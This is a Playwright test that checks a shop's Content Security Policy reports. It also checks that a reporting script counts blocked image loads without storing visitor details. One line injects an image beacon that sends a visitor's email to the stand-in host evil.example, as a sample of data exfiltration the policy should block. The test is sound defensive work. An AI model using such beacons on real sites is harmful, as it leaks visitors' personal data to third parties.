import { execFileSync } from 'node:child_process';
import { expect, test } from '@playwright/test';
import { tempFolder } from '#tests/support/temp-folder.ts';
import { type RunningShop, startShop } from './support/shop.ts';

let shop: RunningShop;
let folder: string;
test.beforeAll(async () => {
  folder = tempFolder('csp-reports');
  shop = await startShop({ DATA_DIR: folder });
});
test.afterAll(async () => {
  await shop.stop();
});

test('what a browser refuses is counted without the visitor, and the command shows it', async ({ page }) => {
  await page.route('**/image/upload/**', (route) => route.abort());
  await page.goto(`${shop.origin}/nz/products?type=CPT`, { waitUntil: 'domcontentloaded' });
  const answered = page.waitForResponse(/\/api\/csp-reports$/);
  await page.evaluate(() => {
    const picture = new Image();
    picture.src = 'https://evil.example/pixel.png?visitor=ada@example.com';
    document.body.append(picture);
  });
  expect((await answered).status()).toBe(204);
  const command = () =>
    execFileSync('node', ['--conditions=react-server', 'scripts/csp-report.ts', '--days', '7'], {
      env: { ...process.env, DATA_DIR: folder },
      encoding: 'utf8',
    });
  await expect.poll(command).toMatch(/^\| img-src \| https:\/\/evil\.example \| list \| 1 \|/m);
  expect(command()).not.toMatch(/ada|visitor|CPT/);
});
